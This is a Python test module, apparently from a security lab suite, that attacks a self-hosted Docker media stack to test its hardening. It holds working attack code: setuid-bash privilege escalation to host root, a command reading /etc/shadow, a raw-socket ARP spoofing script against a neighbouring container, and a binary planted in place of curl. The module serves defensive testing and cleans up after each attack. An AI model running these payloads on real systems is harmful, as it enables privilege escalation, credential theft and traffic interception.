"""Inside a container: from its program's user to root, to the network, to the next start."""

from __future__ import annotations

import secrets
import time

from tests.lab.attacks.accounts import NOBODY
from tests.lab.attacks.base import Outcome, attack, control
from tests.lab.attacks.place import Place

WHO = 'echo "$EUID"; grep ^root: /etc/shadow'
# Into a folder of the media that takes it, or into the first of all.
LEAVE = """
for folder in "$1" "$1"/*; do [ -d "$folder" ] && [ -w "$folder" ] && found=$folder; done
file=${found:-$1}/$2
cp /bin/bash "$file" && chmod 4755 "$file" && echo "$file"
"""
# An answer that nobody asked for (RFC 826): "the gateway is at my address".
SPOOF = """
import socket, struct, sys
gateway, victim = sys.argv[1:]
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
try:
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
except PermissionError as error:
    sys.exit(print("-", error))
for name in sorted(name for _, name in socket.if_nameindex() if name != "lo"):
    raw.bind((name, 0x0806))
    own = raw.getsockname()[4]
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + socket.inet_aton(gateway)
    raw.send(b"\\xff" * 6 + own + b"\\x08\\x06" + body + b"\\xff" * 6 + socket.inet_aton(victim))
    print(own.hex(":"))
"""
TOUCH = "import socket, sys; socket.create_connection((sys.argv[1], 22), 1)"
PLANT = """
import sys
for path in sys.argv[1:]:
    try:
        with open(path, "w") as file:
            file.write("#!/bin/sh\\necho planted\\n")
        print(path, "written")
    except OSError as error:
        print(path, error.strerror)
"""


@attack("program in Sonarr's container", "box 1.9")
def root_by_a_setuid_program(place: Place) -> Outcome:
    """A set-user-id program of root's, of which images have a dozen, makes its caller root."""
    name = f"rescue-{secrets.token_hex(4)}"
    path = f"{place.config('sonarr')}/{name}"
    place.host.run(["install", "-o", "root", "-m", "4755", "/bin/bash", path])
    try:
        # The plain user's own shell must start there, or refusing would mean nothing.
        said = place.inside("sonarr", [f"/config/{name}", "-p", "-c", "echo $UID $EUID"]).stdout
    finally:
        place.host.run(["rm", path])
    user, effective = said.split()
    return Outcome(effective == "0", f"user {user} runs it as user {effective}")


@attack("player's or Sonarr's container", "box 1.9", "box 1.2")
def root_on_the_host_by_a_file_among_the_media(place: Place) -> Outcome:
    """A root of a container leaves a set-user-id shell where an account of the host can run it."""
    name = f".rescue-{secrets.token_hex(4)}"
    seen = []
    for service in ("jellyfin", "sonarr"):
        source, target = media(place, service)
        left = place.inside(service, ["sh", "-c", LEAVE, "sh", target, name], check=False)
        said = left.stderr.strip().rpartition(": ")[2]
        if left.returncode == 0:
            path = left.stdout.strip().replace(target, source, 1)
            said = place.host.run([*NOBODY, path, "-p", "-c", WHO], check=False).stdout.strip()
            place.host.run(["rm", path])
        if said.startswith("0\n"):
            shown = said.splitlines()[1].split(":")
            return Outcome(True, f"nobody is root and reads {shown[0]}:(hash cut):{shown[2]}")
        seen.append(f"{service}: {'runs as user ' if said.isdigit() else ''}{said}")
    return Outcome(False, "; ".join(seen))


def media(place: Place, service: str) -> tuple[str, str]:
    """The media as a container has them: their folder on the host, and inside."""
    form = "{{range .Mounts}}{{.Source}} {{.Destination}}\n{{end}}"
    rows = [line.split() for line in place.inspect(service, form).splitlines() if line.strip()]
    found = [(row[0], row[1]) for row in rows if row[0].startswith("/srv/media")]
    control(bool(found), f"{service} has no media")
    return found[0]


@attack("start page's container", "box 1.9", "blocker 4")
def a_neighbour_s_traffic_by_forged_arp(place: Place) -> Outcome:
    """Raw sockets, which Docker gives to all, make one container the gateway of another."""
    victim = "traefik"
    form = "{{range .NetworkSettings.Networks}}{{.Gateway}} {{.IPAddress}}\n{{end}}"
    own = {line.split()[0] for line in place.inspect("homepage", form).splitlines() if " 1" in line}
    rows = [line.split() for line in place.inspect(victim, form).splitlines()]
    gateway, address = next((row[0], row[1]) for row in rows if len(row) == 2 and row[0] in own)
    pid = place.inspect(victim, "{{.State.Pid}}")
    within = ["nsenter", "-t", pid, "-n"]
    place.host.run([*within, "python3", "-c", TOUCH, gateway], check=False)
    time.sleep(1.5)
    said = place.python("homepage", SPOOF, gateway, address).stdout.strip()
    if said.startswith("-"):
        return Outcome(False, f"a raw socket: {said[2:]}")
    time.sleep(0.5)
    table = place.host.run([*within, "ip", "neigh", "show", gateway]).stdout
    place.host.run([*within, "ip", "neigh", "flush", "all"])
    believed = any(mac in table for mac in said.splitlines())
    return Outcome(believed, f"{victim} has {' '.join(table.split()[:5])}, which is the attacker")


@attack("player's container", "box 1.9")
def a_program_planted_in_a_container(place: Place) -> Outcome:
    """A writable root file system keeps what an intruder leaves in it for the next command."""
    path, writable = "/usr/local/bin/curl", "/tmp/planted"
    lines = place.python("jellyfin", PLANT, path, writable).stdout.splitlines()
    control(lines[1].endswith("written"), f"nothing can be written at all: {lines}")
    called = ""
    if lines[0].endswith("written"):
        command = ["sh", "-c", f"chmod 755 {path}; curl; rm {path}"]
        called = place.inside("jellyfin", command).stdout.strip()
    place.inside("jellyfin", ["rm", writable])
    evidence = f"curl now says {called!r}" if called else lines[0]
    return Outcome(called == "planted", evidence)


ATTACKS = (
    root_by_a_setuid_program,
    root_on_the_host_by_a_file_among_the_media,
    a_neighbour_s_traffic_by_forged_arp,
    a_program_planted_in_a_container,
)
